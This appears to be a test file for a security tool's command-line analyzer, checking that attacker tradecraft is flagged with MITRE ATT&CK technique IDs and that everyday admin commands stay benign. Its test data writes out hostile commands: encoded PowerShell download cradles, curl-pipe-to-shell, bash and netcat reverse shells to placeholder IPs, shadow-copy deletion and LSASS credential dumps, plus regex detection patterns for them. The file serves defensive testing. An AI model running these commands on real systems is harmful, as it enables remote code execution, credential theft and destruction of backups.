import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { analyzeCommandLines, COMMAND_LINE_ANALYZER } from '../../src/analyzers/command-line';
import { corpusPath } from '../helpers/corpus';

const b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

/** Short command lines written for these tests, in the shape of well-known tradecraft. */
const ATTACKS: [name: string, cmd: string, expectedAttack: string, minScore: number][] = [
  [
    'encoded PowerShell (-enc)',
    `powershell.exe -NoP -W Hidden -enc ${b64("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.9/a')")}`,
    'T1059.001',
    75,
  ],
  ['encoded PowerShell (-EncodedCommand)', `PowerShell -EncodedCommand ${b64('Get-Process')}`, 'T1027', 75],
  ['encoded PowerShell (-e)', `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e ${b64('whoami')}`, 'T1059.001', 75],
  ['download cradle', 'powershell -c "IEX (New-Object Net.WebClient).DownloadString(\'https://203.0.113.4/p.ps1\')"', 'T1105', 75],
  ['certutil -urlcache download', 'certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe', 'T1105', 75],
  ['vssadmin delete shadows', 'vssadmin.exe delete shadows /all /quiet', 'T1490', 75],
  ['wmic shadowcopy delete', 'wmic shadowcopy delete /nointeractive', 'T1490', 75],
  ['wbadmin delete catalog', 'wbadmin delete catalog -quiet', 'T1490', 75],
  ['comsvcs MiniDump', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\l.dmp full', 'T1003.001', 75],
  ['comsvcs ordinal #24', 'rundll32 comsvcs.dll #24 700 out.dmp full', 'T1003.001', 75],
  ['procdump of lsass', 'procdump64.exe -accepteula -ma lsass.exe lsass.dmp', 'T1003.001', 75],
  ['curl | sh', 'curl -fsSL http://203.0.113.50/install.sh | sh', 'T1059.004', 75],
  ['wget | bash', 'wget -qO- http://203.0.113.50/x | bash -s', 'T1059.004', 75],
  ['mshta javascript', 'mshta.exe javascript:a=GetObject("script:https://203.0.113.8/x.sct").Exec();close();', 'T1218.005', 75],
  ['regsvr32 Squiblydoo', 'regsvr32 /s /n /u /i:https://203.0.113.8/file.sct scrobj.dll', 'T1218.010', 75],
  ['bash reverse shell', 'bash -i >& /dev/tcp/198.51.100.20/4444 0>&1', 'T1059.004', 75],
  ['nc -e reverse shell', 'nc 198.51.100.20 4444 -e /bin/sh', 'T1059.004', 75],
  [
    'hidden PowerShell with bypass',
    'powershell.exe -WindowStyle Hidden -ExecutionPolicy Bypass -File C:\\Users\\Public\\run.ps1',
    'T1564.003',
    50,
  ],
  ['certutil -decode', 'certutil -decode payload.b64 payload.exe', 'T1140', 50],
  ['bitsadmin transfer', 'bitsadmin /transfer job /download /priority high http://198.51.100.7/a.exe C:\\a.exe', 'T1197', 50],
  ['domain admin discovery', 'net group "domain admins" /domain', 'T1069', 1],
];

/** Everyday admin and developer commands that must stay benign. */
const BENIGN = [
  'ipconfig /all',
  'git status',
  'git log --oneline -n 20',
  'ping -n 4 10.0.0.1',
  'netstat -ano',
  'tasklist /v',
  'dir C:\\Users\\Public',
  'certutil -hashfile C:\\Temp\\setup.exe SHA256',
  'vssadmin list shadows',
  'powershell -NoProfile -File C:\\scripts\\backup.ps1',
  'powershell.exe Get-Service -Name Spooler',
  'curl -O https://example.com/archive.tar.gz',
  'wget https://example.com/file.zip',
  'ls -la /var/log',
  'systemctl status nginx',
  'sc query wuauserv',
  'shasum -a 256 file.iso',
  'npm install --save-dev typescript',
];

describe('analyzeCommandLines', () => {
  it.each(ATTACKS)('flags %s', (_name, cmd, expectedAttack, minScore) => {
    const f = analyzeCommandLines([cmd]);
    expect(f.analyzer).toBe(COMMAND_LINE_ANALYZER);
    expect(f.score).toBeGreaterThanOrEqual(minScore);
    expect(f.verdict).toBe(f.score >= 75 ? 'malicious' : 'suspicious');
    expect(f.attack).toContain(expectedAttack);
    expect(f.evidence.length).toBeGreaterThan(0);
    expect(f.evidence[0]).toContain(cmd.slice(0, 40));
  });

  it.each(BENIGN)('leaves %j benign', (cmd) => {
    const f = analyzeCommandLines([cmd]);
    expect(f.verdict).toBe('benign');
    expect(f.score).toBe(0);
    expect(f.evidence).toEqual([]);
    expect(f.attack).toEqual([]);
  });

  it('is unknown, with no confidence, when there is nothing to analyze', () => {
    expect(analyzeCommandLines([])).toMatchObject({ verdict: 'unknown', score: 0, confidence: 0 });
  });

  it('reports how many benign command lines it looked at', () => {
    const f = analyzeCommandLines(['ipconfig /all', 'git status']);
    expect(f.confidence).toBeGreaterThan(0);
    expect(f.summary).toBe('no known tradecraft in 2 command line(s)');
  });

  it('scores by the worst command line and keeps evidence of each hit', () => {
    const f = analyzeCommandLines(['git status', 'whoami /all', 'vssadmin delete shadows /all /quiet']);
    expect(f.score).toBe(90);
    expect(f.verdict).toBe('malicious');
    expect(f.evidence).toHaveLength(2);
    expect(f.evidence.some((e) => e.startsWith('recon-discovery: whoami /all'))).toBe(true);
    expect(f.evidence.some((e) => e.startsWith('shadow-delete: vssadmin'))).toBe(true);
    expect(f.attack).toEqual([...f.attack].sort());
    expect(f.attack).toEqual(expect.arrayContaining(['T1033', 'T1069', 'T1490']));
    expect(new Set(f.attack).size).toBe(f.attack.length);
  });

  it('keeps discovery alone suspicious, not malicious', () => {
    const f = analyzeCommandLines(['whoami /priv']);
    expect(f.verdict).toBe('suspicious');
    expect(f.score).toBeLessThan(75);
  });

  it('clips long command lines in the evidence', () => {
    const cmd = `powershell -enc ${'A'.repeat(5000)}`;
    const f = analyzeCommandLines([cmd]);
    expect(f.verdict).toBe('malicious');
    expect(f.evidence[0].length).toBeLessThanOrEqual('ps-encoded: '.length + 300);
  });

  it('flags the sample alerts that carry attack command lines', () => {
    const load = (f: string) => JSON.parse(readFileSync(join(__dirname, '..', '..', 'samples', 'alerts', f), 'utf8'));
    const cmds = (a: { observables: { processes: { commandLine?: string }[] } }) =>
      a.observables.processes.map((p) => p.commandLine).filter((c): c is string => !!c);
    expect(analyzeCommandLines(cmds(load('01-encoded-powershell.json'))).verdict).toBe('malicious');
    expect(analyzeCommandLines(cmds(load('02-lsass-dump.json'))).attack).toContain('T1003.001');
  });
});

// Real command lines from the project's shared corpus (Atomic Red Team tests, MIT; tldr-pages
// examples, CC-BY-4.0), read in place and never copied into the repository.
interface CorpusRow {
  command: string;
  technique?: string;
  tool?: string;
}
const readJsonl = (file: string): CorpusRow[] =>
  readFileSync(corpusPath('commands', file), 'utf8')
    .split('\n')
    .filter((l) => l.trim())
    .map((l) => JSON.parse(l) as CorpusRow);

describe('analyzeCommandLines on the shared command corpus', () => {
  const malicious = readJsonl('malicious_commands.jsonl');
  const admin = readJsonl('admin_commands_tldr.jsonl');

  // Families the analyzer claims to detect, selected by shape (templated placeholders such as
  // {REMOTEURL} excluded: they are not command lines an EDR would see).
  const families: [name: string, select: RegExp, attack: string][] = [
    ['encoded PowerShell', /\bpowershell(\.exe)?\b.*\s-(e|enc|ec|encodedcommand)\s+[A-Za-z0-9+/=]{16,}/i, 'T1059.001'],
    ['certutil -urlcache download', /\bcertutil(\.exe)?\b.*-urlcache\b.*\bhttps?:\/\//i, 'T1105'],
    ['vssadmin delete shadows', /\bvssadmin(\.exe)?\s+delete\s+shadows\b/i, 'T1490'],
    ['comsvcs MiniDump', /\bcomsvcs(\.dll)?\b.*\bminidump\b/i, 'T1003.001'],
    ['curl or wget piped into a shell', /\b(curl|wget)\b[^|;\n]*\|\s*(ba)?sh\b/i, 'T1059.004'],
  ];

  it.each(families)('detects every %s command in the corpus', (_name, select, attack) => {
    const rows = malicious.filter((r) => select.test(r.command) && !/\{[A-Z_]+(:[^}]*)?\}/.test(r.command));
    expect(rows.length).toBeGreaterThan(0);
    const missed = rows
      .filter((r) => {
        const f = analyzeCommandLines([r.command]);
        return f.verdict !== 'malicious' || !f.attack.includes(attack);
      })
      .map((r) => r.command);
    expect(missed).toEqual([]);
  });

  it.each(['ipconfig', 'git', 'ping', 'netstat', 'dir', 'cd', 'df', 'systemctl', 'journalctl', 'docker', 'kubectl', 'ssh'])(
    'keeps every documented %s example benign',
    (tool) => {
      const rows = admin.filter((r) => r.tool === tool);
      expect(rows.length).toBeGreaterThan(0);
      const flagged = rows.filter((r) => analyzeCommandLines([r.command]).verdict !== 'benign').map((r) => r.command);
      expect(flagged).toEqual([]);
    },
  );

  it('judges no documented admin usage malicious, apart from an offensive tool (mimikatz)', () => {
    const flagged = admin
      .filter((r) => !(r.tool ?? '').startsWith('mimikatz'))
      .filter((r) => analyzeCommandLines([r.command]).verdict === 'malicious')
      .map((r) => r.command);
    expect(admin.length).toBeGreaterThan(1000);
    expect(flagged).toEqual([]);
  });
});
